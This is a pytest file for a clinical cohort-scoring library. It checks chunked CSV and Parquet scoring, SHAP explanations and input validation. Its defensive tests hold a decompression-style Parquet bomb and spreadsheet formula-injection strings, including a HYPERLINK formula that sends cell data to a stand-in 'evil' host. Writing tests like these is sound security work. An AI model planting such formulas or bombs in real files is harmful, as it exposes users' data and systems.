"""Chunked cohort scoring equals one-shot scoring, row for row, for CSV and Parquet."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cohort_data import cohort_frame

from precimed.cohort import CohortSource, prob_column, score_cohort
from precimed.errors import PrecimedInputError
from precimed.explain.tabular import explain_matrix
from precimed.predict import predict_table
from precimed.registry import Bundle
from precimed.tabular.validate import encode, validate_table


def _one_shot(bundle: Bundle, frame: pd.DataFrame) -> list:  # type: ignore[type-arg]
    return predict_table(bundle, validate_table(frame, bundle.card))


def _assert_same_rows(results: pd.DataFrame, bundle: Bundle, frame: pd.DataFrame) -> None:
    expected = _one_shot(bundle, frame)
    assert results["row"].tolist() == list(range(len(frame)))
    for p in expected:
        got = results.iloc[p.row]
        if p.error:
            assert got["error"] == p.error
            assert got["prediction"] is None or pd.isna(got["prediction"])
            assert all(np.isnan(got[prob_column(c)]) for c in bundle.classes)
        else:
            assert pd.isna(got["error"])
            assert got["prediction"] == p.prediction
            for c in bundle.classes:
                assert got[prob_column(c)] == pytest.approx(p.probabilities[c], abs=1e-6)


@pytest.mark.parametrize("chunk_rows", [8, 5, 1000])
def test_chunked_csv_equals_one_shot(genomic: Bundle, genomic_cohort: pd.DataFrame,
                                     chunk_rows: int) -> None:
    data = genomic_cohort.to_csv(index=False).encode()
    seen: list[tuple[int, int | None]] = []
    out = score_cohort(genomic, data, name="cohort.csv", chunk_rows=chunk_rows,
                       keep=["outcome", "site"], progress=lambda d, t: seen.append((d, t)))
    assert out.results is not None
    _assert_same_rows(out.results, genomic, genomic_cohort)
    assert (out.rows, out.valid, out.invalid) == (48, 38, 10)
    assert out.chunks == -(-48 // chunk_rows)
    # bounded memory: one progress step per chunk, never more than chunk_rows at a time
    steps = np.diff([0] + [d for d, _ in seen])
    assert steps.max() <= chunk_rows and seen[-1] == (48, 48)
    # the whole chunk 10-17 is invalid and still reported row by row
    assert out.results.loc[10:17, "error"].str.contains("'age' is 'old', not a number").all()
    assert "filled with the training median" in out.results.loc[20, "warnings"]
    assert out.results["outcome"].tolist() == genomic_cohort["outcome"].tolist()


def test_parquet_in_parquet_out(genomic: Bundle, genomic_cohort: pd.DataFrame, tmp_path: Path) -> None:
    typed = genomic_cohort.copy()
    numeric = [s["name"] for s in genomic.card["inputs"] if s["dtype"] != "category"]
    typed[numeric] = typed[numeric].apply(pd.to_numeric, errors="coerce")  # 'huge' → NaN → imputed
    src, dst = tmp_path / "cohort.parquet", tmp_path / "scores.parquet"
    typed.to_parquet(src)
    out = score_cohort(genomic, src, output=dst, chunk_rows=16, keep=["site"])
    assert out.results is None and out.output == str(dst)
    written = pd.read_parquet(dst)
    assert list(written.columns) == ["row", "P(no metastasis)", "P(metastasis)", "prediction",
                                     "error", "warnings", "site"]
    in_memory = score_cohort(genomic, src, chunk_rows=1000, keep=["site"]).results
    pd.testing.assert_frame_equal(written, in_memory, check_dtype=False, atol=1e-6)
    _assert_same_rows(written, genomic, typed)


def test_multiclass_explain_top_features_and_importance(tiny: Bundle) -> None:
    frame = cohort_frame(tiny, 30, seed=4)
    out = score_cohort(tiny, frame.to_csv(index=False).encode(), name="c.csv", chunk_rows=7,
                       explain=True)
    res = out.results
    assert res is not None and out.importance is not None
    probs = res[[prob_column(c) for c in tiny.classes]].to_numpy()
    assert probs.shape == (30, 3) and np.allclose(probs.sum(axis=1), 1.0, atol=1e-5)
    assert (res["explained_class"] == res["prediction"]).all()  # multiclass: the predicted class
    table = validate_table(frame, tiny.card)
    values, base = explain_matrix(tiny, encode(table.frame, tiny.card))
    names = [i["name"] for i in tiny.card["inputs"]]
    for r in range(30):
        k = tiny.classes.index(res.loc[r, "prediction"])
        contrib = values[r, :, k]
        assert base[k] + contrib.sum() == pytest.approx(probs[r, k], abs=1e-4)  # additivity
        order = np.argsort(-np.abs(contrib), kind="stable")[:3]
        assert [res.loc[r, f"top{j}_feature"] for j in (1, 2, 3)] == [names[j] for j in order]
        assert [res.loc[r, f"top{j}_shap"] for j in (1, 2, 3)] == pytest.approx(contrib[order], abs=1e-6)
    expected = pd.DataFrame(np.abs(values).mean(axis=0), index=names, columns=tiny.classes)
    pd.testing.assert_frame_equal(out.importance.sort_index(), expected.sort_index(), atol=1e-6)
    assert out.summary()["importance"]  # the CLI's JSON lists the top features


def test_errors_are_clear_and_early(genomic: Bundle, genomic_cohort: pd.DataFrame, tmp_path: Path) -> None:
    data = genomic_cohort.drop(columns=["age", "er"]).to_csv(index=False).encode()
    with pytest.raises(PrecimedInputError, match=r"2 required column\(s\) missing: age, er"):
        score_cohort(genomic, data, name="c.csv")
    with pytest.raises(PrecimedInputError, match="column 'label' is not in c.csv"):
        score_cohort(genomic, genomic_cohort.to_csv(index=False).encode(), name="c.csv",
                     keep=["label"])
    with pytest.raises(PrecimedInputError, match="unsupported file type '.xlsx'"):
        CohortSource.of(b"x", "c.xlsx")
    with pytest.raises(PrecimedInputError, match="the file is empty"):
        CohortSource.of(b"", "c.csv")
    with pytest.raises(PrecimedInputError, match="no data rows"):
        score_cohort(genomic, genomic_cohort.head(0).to_csv(index=False).encode(), name="c.csv")
    with pytest.raises(PrecimedInputError, match="not a readable Parquet file"):
        score_cohort(genomic, b"PAR1 not really", name="c.parquet")
    with pytest.raises(PrecimedInputError, match="no such file"):
        score_cohort(genomic, tmp_path / "absent.csv")


def test_semicolon_latin1_csv_counts_rows(genomic: Bundle, genomic_cohort: pd.DataFrame) -> None:
    frame = genomic_cohort.head(12).copy()
    frame["site"] = ["Orléans"] * 12
    data = frame.to_csv(index=False, sep=";").encode("latin-1")
    src = CohortSource.of(data, "c.csv")
    assert src.count_rows() == 12
    out = score_cohort(genomic, src, keep=["site"], chunk_rows=5)
    assert out.results is not None and set(out.results["site"]) == {"Orléans"}
    _assert_same_rows(out.results, genomic, frame)


def test_parquet_bomb_is_refused(genomic: Bundle, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    big = pa.array(["x" * (1 << 20)])  # one 1 MiB string, referenced by every row
    bomb = pa.DictionaryArray.from_arrays(pa.array(np.zeros(300, dtype="int32")), big)
    columns = {i["name"]: pa.array(np.zeros(300)) for i in genomic.card["inputs"]
               if i["dtype"] != "category"}
    columns.update({"er": pa.array(["positive"] * 300), "grade": pa.array(["intermediate"] * 300),
                    "note": bomb})
    path = tmp_path / "bomb.parquet"
    pq.write_table(pa.table(columns), path)
    assert path.stat().st_size < 2 << 20
    with pytest.raises(PrecimedInputError, match=r"text cells of 300 rows expand to 314,5\d\d,\d\d\d bytes"):
        score_cohort(genomic, path, keep=["note"])


def test_csv_output_is_formula_safe(genomic: Bundle, genomic_cohort: pd.DataFrame, tmp_path: Path) -> None:
    import csv

    frame = genomic_cohort.copy()
    frame.loc[0, "site"] = "=HYPERLINK(\"http://evil/?\"&A1)"
    frame.loc[1, "site"] = "@SUM(1)"
    frame.loc[2, "outcome"] = "+cmd"
    dst = tmp_path / "scores.csv"
    score_cohort(genomic, frame.to_csv(index=False).encode(), name="c.csv", output=dst,
                 chunk_rows=10, keep=["outcome", "site"])
    rows = list(csv.DictReader(dst.open(encoding="utf-8", newline="")))
    assert len(rows) == 48 and [int(r["row"]) for r in rows] == list(range(48))
    assert rows[0]["site"] == "'=HYPERLINK(\"http://evil/?\"&A1)" and rows[1]["site"] == "'@SUM(1)"
    assert rows[2]["outcome"] == "'+cmd"
    assert float(rows[0]["P(metastasis)"]) >= 0 and rows[3]["error"].startswith("'size' is 'huge'")


def test_default_chunk_is_capped_in_bytes_for_wide_models(genomic: Bundle) -> None:
    """50,000 rows, or 32 MiB of float64 inputs if fewer: the 376-input DILI model reads 11,155
    rows a chunk (at 50,000 its 10^6-row run peaked above 2 GB; bench_cohort.py)."""
    from precimed.cohort.score import DEFAULT_CHUNK_BYTES, default_chunk_rows
    from precimed.registry import get_bundle

    assert default_chunk_rows(genomic) == 50_000  # 80 inputs: 32 MB at 50,000 rows
    dili = get_bundle("dili-hepatic-injury-qsar")
    assert default_chunk_rows(dili) == DEFAULT_CHUNK_BYTES // (8 * 376) == 11_155


def test_the_model_load_is_reported_apart(genomic: Bundle, genomic_cohort: pd.DataFrame,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """A cold run's wait includes loading the model (4-6 s with TensorFlow's import); the summary
    says how much, so rows/s is not read as the pipeline's throughput. Once loaded, nothing."""
    from precimed import registry
    from precimed.cli.score_cmd import _loading

    data = genomic_cohort.head(40).to_csv(index=False).encode()
    monkeypatch.setattr(registry, "_MODEL_CACHE", {})  # this test's own cold load
    cold = score_cohort(genomic, data, name="c.csv").summary()
    assert 0 < cold["model_load_seconds"] <= cold["seconds"]
    warm = score_cohort(genomic, data, name="c.csv").summary()
    assert warm["model_load_seconds"] < 0.05
    assert _loading({"model_load_seconds": 5.83}) == "; 5.8 s of it loading the model"
    assert _loading(warm) == "" and _loading({}) == ""
